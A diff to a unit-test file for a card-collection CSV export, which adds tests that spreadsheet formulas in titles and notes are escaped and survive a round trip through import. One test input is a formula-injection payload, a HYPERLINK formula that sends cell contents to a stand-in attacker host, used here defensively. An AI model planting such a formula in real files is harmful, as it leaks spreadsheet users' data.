@@ -109,8 +109,8 @@ describe('collectionCsv', () => {
       item({ grade: 'Raw', note: 'line\nbreak' }),
     ]);
     expect(csv).toBe(
-      `${HEADER}\n1999 Pokemon Base Set Charizard Holo #4,PSA 10,2,120.5,2026-03-01,"show, ""mint"""\n` +
-        '1999 Pokemon Base Set Charizard Holo #4,Raw,1,,,"line\nbreak"\n',
+      `${HEADER}\r\n1999 Pokemon Base Set Charizard Holo #4,PSA 10,2,120.5,2026-03-01,"show, ""mint"""\r\n` +
+        '1999 Pokemon Base Set Charizard Holo #4,Raw,1,,,"line\nbreak"\r\n',
     );
   });
 
@@ -122,6 +122,31 @@ describe('collectionCsv', () => {
     const first = collectionCsv(items);
     const parsed = parseCollectionCsv(first, TODAY);
     expect(parsed.problems).toEqual([]);
+    const again = collectionCsv(parsed.rows.map((row) => ({ id: 'y', ...row.draft })));
+    expect(again).toBe(first);
+  });
+
+  it('guards titles and notes that would run as formulas, and the import takes the guard off: the same bytes again', () => {
+    const items = [
+      item({ title: '=HYPERLINK("http://evil.example/?x="&A1,"Charizard")', note: '=1+1' }),
+      item({ title: '+Charizard Holo', note: '+41 1234' }),
+      item({ title: '-Charizard Holo', note: '- mint corners', cost: 12.5 }),
+      item({ title: '@Charizard Holo', note: '@SUM(A1:A9)', quantity: 2 }),
+      item({ title: "'=Charizard Holo", note: '\tindented' }),
+    ];
+    const first = collectionCsv(items);
+    expect(first.split('\r\n').slice(1, 6)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Charizard"")",PSA 10,1,,,'=1+1`,
+      "'+Charizard Holo,PSA 10,1,,,'+41 1234",
+      "'-Charizard Holo,PSA 10,1,12.5,,'- mint corners",
+      "'@Charizard Holo,PSA 10,2,,,'@SUM(A1:A9)",
+      "''=Charizard Holo,PSA 10,1,,,'\tindented",
+    ]);
+    const parsed = parseCollectionCsv(first, TODAY);
+    expect(parsed.problems).toEqual([]);
+    expect(parsed.rows.map((row) => [row.draft.title, row.draft.note])).toEqual(
+      items.map((one) => [one.title, one.note]),
+    );
     const again = collectionCsv(parsed.rows.map((row) => ({ id: 'y', ...row.draft })));
     expect(again).toBe(first);
   });
